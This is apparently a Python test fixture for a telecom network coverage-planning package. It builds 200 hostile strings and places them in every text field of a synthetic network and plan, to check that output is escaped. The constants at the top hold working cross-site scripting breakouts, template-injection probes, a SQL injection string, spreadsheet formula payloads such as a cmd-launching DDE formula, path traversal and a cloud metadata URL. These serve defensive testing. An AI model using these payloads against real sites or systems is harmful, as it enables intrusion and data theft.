"""Two hundred texts that try to become code, a formula, markup or a path, and a network that bears them everywhere."""

from __future__ import annotations

from dataclasses import replace

import numpy as np
from shapely import LineString, box

from phusong.coverage.network.demand import Communes, DemandPoints, Places
from phusong.coverage.network.network import Network
from phusong.coverage.network.plant import FibrePlant, Roads
from phusong.coverage.network.sites import Sites
from phusong.coverage.served.coverage import Coverage
from phusong.optimize.plan.plan import Plan
from tests.builders.networks.small_network import SOUTH_M, WEST_M, coverage_of, small_network, text
from tests.builders.plans.small_plan import FIBRE, TOWER, UPGRADE, small_case

RUN = "window.trapped=1"
CODE = (
    *(RUN, "alert(1)", "fetch('//x.invalid')", "document.title='x'"),
    *("import('//x.invalid/a.js')", "eval(name)", "new Image().src='//x.invalid'", "location='//x.invalid'"),
)

AROUND = (
    *("<script>{}</script>", "</script><script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>"),
    *('"><svg/onload={}>', "' onmouseover='{}", '" autofocus onfocus="{}', "${{{}}}", "`${{{}}}`", "{{{{ {} }}}}"),
    *("{{% {} %}}", "javascript:{}", "<iframe srcdoc='<script>{}</script>'>", "</title><script>{}</script>"),
    *("</style><script>{}</script>", "<!--<script>{}</script>-->", "]]><script>{}</script><![CDATA["),
    *("<a href=javascript:{}>x</a>", "</textarea><script>{}</script>", "<math><mtext><script>{}</script>"),
    *("%3Cscript%3E{}%3C/script%3E", "&lt;script&gt;{}&lt;/script&gt;"),
)
"""What code is put into so that a page takes it for its own."""

_OUT = ("", '"', "'", "`", "-->", "]]>", "</textarea>", "</title>", "</option></select>", "</script>", "</style>", "\\")
_IN = (
    f" autofocus onfocus={RUN} x=",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<div hx-on:load='{RUN}' hx-get=/ hx-trigger=load>",
    f"<video><source onerror={RUN}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f'<object data="data:text/html,<script>{RUN}</script>">',
    f"<style>@import 'javascript:{RUN}';</style>",
    f"<style>@import 'x'</style><body onload={RUN}>",
)
OUTWARDS = tuple(f"{_OUT[(3 * at + turn) % len(_OUT)]}{inside}" for at, inside in enumerate(_IN) for turn in (0, 4, 8))
"""What breaks out of an attribute, an element or a script, and then runs."""

OTHER_TONGUES = (
    *(f"\\u003cimg src=x onerror={RUN}\\u003e", f"&#60;img src=x onerror={RUN}&#62;", f"');{RUN};//", f'";{RUN};//'),
    *(f"\\';{RUN};//", f"*/{RUN}/*", f"{{{{constructor.constructor('{RUN}')()}}}}", f"{{% print('{RUN}') %}}"),
    *(f"#{{{RUN}}}", f"<%= {RUN} %>", f"__proto__[{RUN}]", f"]]>{RUN}", f"\u202e{RUN}\u202c", f"\u2400{RUN}"),
    *(
        "{n} {people} {service}",
        "{% raise %}",
        "{%- for x in range(9) %}{{x}}{% endfor %}",
        "{{7*7}}",
        "${7*7}",
        "#{7*7}",
    ),
    *(
        "<%= 7*7 %>",
        "%(x)s",
        "{0} {actor} {}",
        "' OR '1'='1",
        "null",
        "NaN",
        "1e999",
        "true",
        "__proto__",
        "constructor",
    ),
)
"""Templates, statements and words of other languages."""

FORMULAS = (
    *("=1+1", "=cmd|' /C calc'!A0", "+84 912", "-2+3", "@SUM(A1:A9)", '=HYPERLINK("//x.invalid")', "\t=1+1", "\r=1+1"),
    *('=WEBSERVICE("//x.invalid")', "#N/A", "#REF!", "TRUE", "00123", "1e5", "12/31/2024", "'=1+1", " =1+1", "%0A=1"),
)

TEXTS = (
    *("../../etc/passwd", "C:\\con\\nul", "a|layername=b", "'; DROP TABLE villages; --", "%s%n%d", "{0}", "{name}"),
    *("Đá Vách", "Nguye\u0302\u0303n", "\u202eevil", "a\u200bb", "\u2028x\u2029", "日本語", "😀", "ẦỐỪ", "a" * 300),
    *("\u2066x\u2069", "\ufeffbom", "a\u0301\u0301\u0301\u0301", "\ufdfa" * 20, "\t\tlead"),
    *("..\\..\\windows\\win.ini", "http://169.254.169.254/", "👨\u200d👩\u200d👧"),
)
"""Paths, statements, formats, and letters that are merely unusual."""

_LAST = tuple(dict.fromkeys((*OUTWARDS, *OTHER_TONGUES, *FORMULAS, *TEXTS)))
_FORMS = (form.format(CODE[(turn * at) % len(CODE)]) for turn in range(len(CODE)) for at, form in enumerate(AROUND))
PAYLOADS = (*[text for text in dict.fromkeys(_FORMS) if text not in _LAST][: 200 - len(_LAST)], *_LAST)
"""Two hundred, each once, for every page, table, file and log."""

assert len(set(PAYLOADS)) == len(PAYLOADS) == 200
N = len(PAYLOADS)


def turned(by: int) -> np.ndarray:
    """The payloads from another one on, so that a row bears different ones in its fields."""
    return text(*PAYLOADS[by:], *PAYLOADS[:by])


def hostile_case() -> tuple[Network, Coverage, Plan]:
    """A network with a commune, village, site, road, fibre route, access point, place and proposal for each payload.

    Identifiers and codes are plain, so that what is read back can be found by them; all else is hostile.
    """
    base = small_network()
    x, y = WEST_M + 1000.0 * (np.arange(N) % 20), SOUTH_M + 1000.0 * (np.arange(N) // 20)
    ids, codes = text(*(f"V{at:03d}" for at in range(N))), text(*(f"{at:05d}" for at in range(N)))
    unknown = np.full(N, np.nan)
    villages = DemandPoints(
        ids=ids,
        names=turned(0),
        commune_codes=codes,
        x_m=x + 500.0,
        y_m=y + 500.0,
        population=np.arange(N, 0, -1, dtype=np.float64) + 99.0,
        households=unknown,
        is_commune_centre=np.zeros(N, dtype=np.bool_),
        has_fibre=unknown,
        origin=turned(1),
    )
    boxes = np.array([box(east, north, east + 1000.0, north + 1000.0) for east, north in zip(x, y, strict=True)])
    lines = np.array([LineString([(east, north), (east + 900.0, north)]) for east, north in zip(x, y, strict=True)])
    some = np.arange(N) % 7
    network = replace(
        base,
        villages=villages,
        communes=Communes(codes, turned(2), turned(3)[some], villages.population, boxes.astype(np.object_)),
        sites=Sites(ids, turned(4), turned(5), (frozenset({"4g"}),) * N, x, y, np.full(N, 42.0)),
        roads=Roads(lines.astype(np.object_), turned(6)),
        fibre=FibrePlant(lines.astype(np.object_), turned(7), turned(8), turned(9), x, y),
        places=Places(ids, turned(10), turned(11), x, y),
    )
    plan = small_case()[2]
    kinds = (UPGRADE, TOWER, FIBRE)
    proposals = tuple(
        replace(
            kinds[at % 3],
            proposal_id=f"P{at:03d}",
            name=str(turned(12)[at]),
            owner=str(turned(13)[at]),
            due=str(turned(14)[at]),
            commune_code=str(codes[at]),
            village_ids=(str(ids[at]),),
        )
        for at in range(N)
    )
    after = {service: np.zeros(N, dtype=np.bool_) for service in plan.after}
    coverage = coverage_of(network, dict.fromkeys(plan.after, ""))
    return network, coverage, replace(plan, proposals=proposals, after=after)
